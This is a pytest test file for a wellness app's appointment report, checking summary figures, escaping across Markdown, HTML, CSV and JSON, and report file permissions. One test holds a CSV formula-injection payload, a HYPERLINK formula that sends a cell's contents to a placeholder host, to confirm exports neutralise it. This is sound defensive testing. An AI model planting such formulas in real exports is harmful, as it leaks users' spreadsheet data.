"""The appointment report on a seeded 90-day profile, in every format."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from benchmarks.synthetic import make_profile
from markdown_it import MarkdownIt

from wellness_tui.library import Library
from wellness_tui.profile.models import CareQuestion, LogEntry, Profile, Treatment
from wellness_tui.report.build import Report, build_report
from wellness_tui.report.formats import render

END = date(2026, 11, 25)
START = END - timedelta(days=89)
NASTY = 'Dose < 10 & "felt odd", [b]not bold[/b] | pipe, comma\nsecond line # not a heading'


@pytest.fixture
def profile(library: Library) -> Profile:
    profile = make_profile(120, today=END, library=library, habits=6)
    profile.log, profile.questions, profile.treatments = [], [], []  # only this test's entries
    profile.log.append(
        LogEntry(
            id="l1",
            day=END - timedelta(days=3),
            what=NASTY,
            severity="moderate",
            related_to="new med <x>",
            notes="note " + NASTY,
        )
    )
    profile.log.append(LogEntry(id="l2", day=START - timedelta(days=1), what="outside the period"))
    profile.questions.append(CareQuestion(id="q1", text=NASTY, added=END))
    profile.questions.append(
        CareQuestion(
            id="q2",
            text="Asked already",
            added=START,
            asked=END - timedelta(days=1),
            answer="Yes & no",
        )
    )
    profile.treatments.append(
        Treatment(
            id="t1",
            what=NASTY,
            started="2019",
            stopped="2020",
            how_it_went="*meh*",
            side_effects="dry mouth",
        )
    )
    profile.checkins[END].note = "PRIVATE " + NASTY
    return profile


def report_of(profile: Profile, library: Library, **include: Any) -> Report:
    return build_report(profile, library, START, END, datetime(2026, 11, 25, 18, 5), **include)


def test_averages_counts_and_entries(profile: Profile, library: Library) -> None:
    report = report_of(profile, library)
    in_range = [c for d, c in profile.checkins.items() if START <= d <= END]
    moods = [c.mood for c in in_range if c.mood is not None]
    mood = report.measures[0]
    assert mood.count == len(moods)
    assert mood.average == pytest.approx(sum(moods) / len(moods))
    assert (mood.minimum, mood.maximum) == (min(moods), max(moods))
    assert report.days == 90 and len(report.checkins) == len(in_range)
    assert [e.id for e in report.log] == ["l1"]
    assert [q.id for q in report.open_questions] == ["q1"]
    assert [q.id for q in report.answered_questions] == ["q2"]
    habit = profile.habits[0]
    done = sum(1 for d in habit.done if START <= d <= END)
    assert report.habits[0].done == done


def test_markdown_shows_typed_text_exactly(profile: Profile, library: Library) -> None:
    text = render(report_of(profile, library), "md")
    assert "Period:** 28 August 2026 to 25 November 2026 (90 days, inclusive)" in text
    assert "Made:** 25 November 2026 at 18:05" in text
    assert "I made this summary myself" in text and "to support conversations about my care" in text
    rendered = MarkdownIt("commonmark").render(text)
    plain = html.unescape(re.sub(r"<[^>]+>", "", rendered.replace("<br />", "\n")))
    for line in NASTY.splitlines():
        assert line in plain
    assert "<h1>second line" not in rendered  # a typed "#" is never a heading
    assert "PRIVATE" not in text and "note Dose" not in text  # notes are left out


def test_html_parses_and_shows_typed_text_exactly(profile: Profile, library: Library) -> None:
    text = render(report_of(profile, library, include_notes=True), "html")

    class Collect(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.text: list[str] = []
            self.stack: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag not in ("br", "meta"):  # void elements
                self.stack.append(tag)

        def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            pass  # <rect .../>: opened and closed at once

        def handle_endtag(self, tag: str) -> None:
            assert self.stack and self.stack[-1] == tag, f"unbalanced </{tag}>"
            self.stack.pop()

        def handle_data(self, data: str) -> None:
            self.text.append(data)

    parser = Collect()
    parser.feed(text)
    parser.close()
    assert parser.stack == []
    plain = "".join(parser.text)
    for line in NASTY.splitlines():
        assert line in plain
    assert "<svg" in text and "http://" not in text.replace("http://www.w3.org/2000/svg", "")
    assert "PRIVATE Dose" in plain  # included on request


def test_csv_and_json_carry_the_raw_rows(profile: Profile, library: Library) -> None:
    report = report_of(profile, library)
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    moods = [r for r in rows if r["section"] == "checkin" and r["item"] == "mood"]
    assert len(moods) == report.measures[0].count
    side = [r for r in rows if r["section"] == "side effect"]
    assert side[0]["item"] == NASTY and side[0]["value"] == "moderate"
    assert not any("PRIVATE" in v for r in rows for v in r.values())
    data = json.loads(render(report, "json"))
    assert data["period"] == {"from": "2026-08-28", "to": "2026-11-25", "days": 90}
    assert data["open_questions"] == [NASTY]
    assert [{k: str(v) for k, v in r.items()} for r in data["rows"]] == rows
    json_moods = [r for r in data["rows"] if r["section"] == "checkin" and r["item"] == "mood"]
    assert all(isinstance(r["value"], int) for r in json_moods)  # numbers as numbers
    assert data["averages"]["mood"]["average"] == pytest.approx(report.measures[0].average)


def test_reflections_only_when_asked(profile: Profile, library: Library) -> None:
    profile.answers["rest-rhythm/what-helps"].text = "UNIQUE-REFLECTION [x]"
    without = render(report_of(profile, library), "md")
    assert "UNIQUE-REFLECTION" not in without and "## My reflections" not in without
    with_reflections = render(report_of(profile, library, include_reflections=True), "md")
    assert "## My reflections" in with_reflections
    assert "UNIQUE-REFLECTION [x]" in with_reflections  # nothing to misread: not escaped


def test_report_from_the_shell_writes_a_private_file(tmp_path: Path, profile: Profile) -> None:
    import stat

    from tests.cli_run import in_process
    from wellness_tui.profile.codec import encode

    path = tmp_path / "p.json"
    path.write_bytes(encode(profile))
    out = tmp_path / "report.html"
    env = {"WELLNESS_TUI_NOW": "2026-11-25T18:00"}  # as its own process gives (cli_run.py)
    result = in_process(
        [
            "report",
            "--profile",
            str(path),
            "--from",
            START.isoformat(),
            "--to",
            END.isoformat(),
            "--format",
            "html",
            "-o",
            str(out),
        ],
        env=env,
    )
    assert result.returncode == 0, result.stderr
    assert "readable only by you" in result.stdout
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_text().startswith("<!DOCTYPE html>")
    bad = in_process(
        ["report", "--profile", str(path), "--from", "2026-11-25", "--to", "2026-11-01"],
        env=env,
    )
    assert bad.returncode == 1 and "is before --from" in bad.stderr


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_18_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(
    profile: Profile, library: Library, start: str
) -> None:
    formula = start + 'HYPERLINK("http://x.example/?"&A1,"click")'
    profile.habits[0].title = formula
    profile.checkins[END].tags = [formula]
    report = report_of(profile, library, include_notes=True)
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    cells = [v for r in rows for v in r.values()]
    assert [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    shown = "'" + formula.replace("\r", "␍")  # visible() pictures a carriage return
    assert shown in cells
    data = json.loads(render(report, "json"))  # JSON keeps the exact text
    assert any(formula in (r["item"], r["value"]) for r in data["rows"])
